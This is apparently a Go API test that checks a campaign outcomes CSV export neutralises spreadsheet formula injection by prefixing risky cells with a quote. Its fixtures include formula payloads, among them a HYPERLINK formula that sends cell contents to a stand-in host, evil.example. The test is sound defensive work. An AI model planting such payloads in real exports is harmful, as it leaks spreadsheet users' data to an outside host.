package api_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wxmass/wxmass/internal/rdb"
)

// TestExportNeutralisesFormulas: text cells of the outcomes CSV that a
// spreadsheet would run as formulas (=, +, -, @, tab, CR first) get a
// leading single quote; numbers and other text are written as they are.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	openids := []string{"-TX0000000000000000000000001", "oTX0000000000000000000000002", "oTX0000000000000000000000003",
		"oTX0000000000000000000000004", "oTX0000000000000000000000005", "oTX0000000000000000000000006"}
	a := b.json(t, "POST", "/v1/campaigns", strings.Replace(inlineCampaign,
		`["oTX0000000000000000000000001","oTX0000000000000000000000002"]`, `["`+strings.Join(openids, `","`)+`"]`, 1))
	require.Equal(t, http.StatusCreated, a.status, a.raw)
	id := a.body["id"].(string)
	require.Equal(t, http.StatusAccepted, b.json(t, "POST", "/v1/campaigns/"+id+"/start", "").status)
	outcomes := []rdb.Outcome{
		{Status: rdb.OutcomeFailed, Code: -1, Class: "retry", Detail: `=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{Status: rdb.OutcomeFailed, Code: 43004, Class: "@class", Detail: "+1+cmd"},
		{Status: rdb.OutcomeUnknown, Detail: "-2+3"},
		{Status: rdb.OutcomeUnknown, Detail: "@SUM(1+1)*cmd"},
		{Status: rdb.OutcomeUnknown, Detail: "\t=1+1"},
		{Status: rdb.OutcomeFailed, Code: 43004, Class: "recipient", Detail: "user unfollowed, a=b"},
	}
	var settles []rdb.Settle
	for i, o := range outcomes {
		settles = append(settles, rdb.Settle{OpenID: openids[i], Outcome: o})
	}
	_, err := b.rdb.RecordOutcomes(t.Context(), id, 1, "completed", settles...)
	require.NoError(t, err)

	res := b.raw(t, "/v1/campaigns/"+id+"/runs/1/outcomes.csv")
	require.Equal(t, http.StatusOK, res.status, res.body)
	rows, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 7)
	byOpenID := map[string][]string{}
	for _, row := range rows[1:] {
		byOpenID[row[0]] = row
	}
	// openid, status, errcode, class, msgid, detail
	row := byOpenID["'-TX0000000000000000000000001"]
	require.NotNil(t, row, "an openid that begins with - is neutralised: %v", rows)
	require.Equal(t, "-1", row[2], "a number stays a number")
	require.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, row[5])
	row = byOpenID["oTX0000000000000000000000002"]
	require.Equal(t, "'@class", row[3])
	require.Equal(t, "'+1+cmd", row[5])
	require.Equal(t, "'-2+3", byOpenID["oTX0000000000000000000000003"][5])
	require.Equal(t, "'@SUM(1+1)*cmd", byOpenID["oTX0000000000000000000000004"][5])
	require.Equal(t, "'\t=1+1", byOpenID["oTX0000000000000000000000005"][5])
	require.Equal(t, "user unfollowed, a=b", byOpenID["oTX0000000000000000000000006"][5], "other text is as it was")
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && cell != row[2] {
				require.NotContains(t, "=+-@\t\r", cell[:1], "cell %q of %v", cell, row)
			}
		}
	}
}
